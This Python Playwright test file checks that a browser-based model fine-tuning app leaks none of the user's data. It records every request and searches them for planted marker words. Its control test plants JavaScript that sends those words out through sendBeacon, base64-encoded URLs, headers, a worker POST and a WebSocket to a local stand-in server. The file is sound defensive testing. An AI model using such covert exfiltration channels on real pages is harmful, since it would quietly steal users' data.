"""Nothing leaves: a whole run with every request of the browser written down, and the data's words in none of them."""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import unquote_to_bytes, urlsplit

import pytest
from playwright.sync_api import Browser, BrowserContext, expect

from tests.browser.elsewhere import elsewhere
from tests.browser.lab import START_MS, Lab
from tests.browser.recorder import Recorder, Request, recorder

# Words that stand nowhere else: in the rows, in the validation file, in the chat, in names.
WORDS = {
    "rows": "quibblewick",
    "checked": "marrowfen",
    "chat": "tanglethorpe",
    "system": "pomfretical",
    "name": "Osselbrook",
}
QUERIES = {"", "model=tiny", "kind=train", "kind=chat"}


@pytest.fixture
def recorded() -> Iterator[Recorder]:
    with recorder() as server:
        yield server


@pytest.fixture
def through(browser_as_it_comes: Browser, recorded: Recorder) -> Iterator[BrowserContext]:
    """A fresh profile whose every connection goes through the recorder, those to this machine too."""
    made = browser_as_it_comes.new_context(
        proxy={"server": recorded.url, "bypass": "<-loopback>"}, reduced_motion="reduce"
    )
    yield made
    made.close()


def written(word: str) -> set[bytes]:
    """Return a word as it may stand in a request: as it is, in hexadecimal, in base64 at any of the three offsets."""
    raw = word.encode()
    # Of a base64 text the letters at both ends depend on what stands beside the word.
    in_base64 = {base64.b64encode(b"\0" * offset + raw)[offset + 1 : -4] for offset in range(3)}
    return {raw, raw.lower(), raw.hex().encode(), *in_base64}


def leaks(requests: list[Request]) -> list[tuple[str, str]]:
    """Return (which word, address) for each request that holds one of the words."""
    found = []
    for request in requests:
        text = unquote_to_bytes(request.raw)
        found += [
            (what, request.address) for what, word in WORDS.items() if any(form in text for form in written(word))
        ]
    return found


def strangers(requests: list[Request], site_url: str, site_folder: Path) -> list[str]:
    """Return each request that is more than "give me this file of the site"."""
    files = {"", "bench/", "manifest.json", *json.loads((site_folder / "manifest.json").read_text())}
    odd = []
    for request in requests:
        parts = urlsplit(request.address)
        inside = request.address.startswith(site_url) and parts.path.removeprefix(urlsplit(site_url).path) in files
        if not inside or request.method != "GET" or request.body or parts.query not in QUERIES:
            odd.append(f"{request.method} {request.address} ({len(request.body)} bytes)")
    return odd


def a_whole_run(lab: Lab, folder: Path) -> None:
    """Data in, a run with a validation file, a chat, the adapter out and in again, a reload."""
    rows = [
        {"prompt": f"Who is {WORDS['rows']} {n}?", "completion": f"{WORDS['rows']} keeps lamp {n}."} for n in range(12)
    ]
    checked = [{"prompt": "Who else?", "completion": f"{WORDS['checked']} keeps the rope."}]
    files = {}
    for name, content in ((f"{WORDS['rows']}.jsonl", rows), (f"{WORDS['checked']}.jsonl", checked)):
        files[name] = folder / name
        files[name].write_text("".join(json.dumps(row) + "\n" for row in content))
    data, validation = files.values()
    lab.wait_for_model()
    lab.drop_data(data)
    lab.wait_for_data()
    lab.drop(validation, on="validation-input")
    lab.set(steps=4, batch=2)
    lab.start()
    lab.wait_for_phase("done")
    expect(lab.part("chat-adapter")).to_be_checked(timeout=START_MS)
    lab.greedy(6)
    lab.page.locator("#system-prompt").fill(f"You are {WORDS['system']}.")
    lab.ask_anything(f"Tell me of {WORDS['chat']}.")
    item = lab.part("adapter-item")
    item.get_by_role("button", name="Rename").click()
    lab.part("adapter-rename").fill(WORDS["name"])
    lab.page.keyboard.press("Enter")
    expect(item).to_contain_text(WORDS["name"])
    archive = lab.download(lab.part("export-adapter").click, folder)
    lab.drop(archive, on="adapter-input")
    expect(item).to_have_count(2, timeout=START_MS)
    expect(lab.part("offline-status")).to_have_attribute("data-state", "kept", timeout=START_MS)
    lab.page.reload()  # by way of the service worker
    lab.wait_for_model()
    expect(lab.part("chat-adapter")).to_be_checked(timeout=START_MS)  # it comes back into use
    lab.ask_anything(f"And of {WORDS['chat']}?")


def test_a_whole_run_tells_nobody_of_the_data(
    through: BrowserContext, recorded: Recorder, site_url: str, site_folder: Path, tmp_path: Path
) -> None:
    lab = Lab(through, site_url + "?model=tiny")
    a_whole_run(lab, tmp_path)
    assert leaks(recorded.requests) == []
    assert strangers(recorded.requests, site_url, site_folder) == []
    asked = {urlsplit(request.address).path.rpartition("/")[2] for request in recorded.requests}
    assert {"main.js", "worker.js", "model.safetensors", "sw.js"} <= asked  # the page's own requests and the workers'
    assert lab.errors == []


def test_a_planted_beacon_is_seen(
    through: BrowserContext, recorded: Recorder, site_url: str, site_folder: Path
) -> None:
    """The control: each way out, from a page and a worker that have no policy, is written down and found."""
    with elsewhere() as other:
        page = through.new_page()
        page.goto(other.url)
        start = len(recorded.requests)
        page.evaluate(
            """async ([words, site, socket]) => {
              navigator.sendBeacon("/beacon", words.rows);
              await fetch(`/url?said=${encodeURIComponent(btoa("ab" + words.checked + "cd"))}`);
              await fetch("/header", { headers: { "X-Said": words.system } });
              const inside = `fetch("${location.href}worker", { method: "POST", body: "${words.chat}" })
                .finally(() => postMessage(1))`;
              const worker = new Worker(URL.createObjectURL(new Blob([inside])));
              await new Promise((resolve) => { worker.onmessage = resolve; });
              await fetch(`${site}models/index.json?${words.name}`, { mode: "no-cors" });
              const open = new WebSocket(socket);
              await new Promise((resolve) => { open.onerror = open.onopen = resolve; });
            }""",
            [WORDS, site_url, other.url.replace("http", "ws") + "socket"],
        )
        seen = recorded.requests[start:]
        assert {what for what, _ in leaks(seen)} == set(WORDS)
        methods = [line.partition(" ")[0] for line in strangers(seen, site_url, site_folder)]
        assert {"POST", "GET", "CONNECT"} <= set(methods)  # CONNECT is the WebSocket
        assert len(methods) == len(seen)
